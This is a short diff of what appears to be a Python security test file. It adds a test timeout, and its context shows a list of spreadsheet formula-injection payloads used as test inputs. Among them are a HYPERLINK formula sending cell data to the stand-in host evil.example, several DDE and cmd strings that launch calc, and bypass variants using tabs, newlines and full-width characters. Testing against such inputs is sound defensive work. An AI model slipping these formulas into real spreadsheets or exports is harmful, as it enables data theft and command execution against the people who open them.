@@ -17,6 +17,8 @@ from tests.scripted_endpoint import ScriptedEndpoint
 from tests.security.canaries import fill
 from tests.security.matrix import cells
 
+pytestmark = pytest.mark.timeout(600)
+
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|'/C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
     "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '=DDE("cmd";"/C calc";"x")', "=IMPORTXML(A1)",
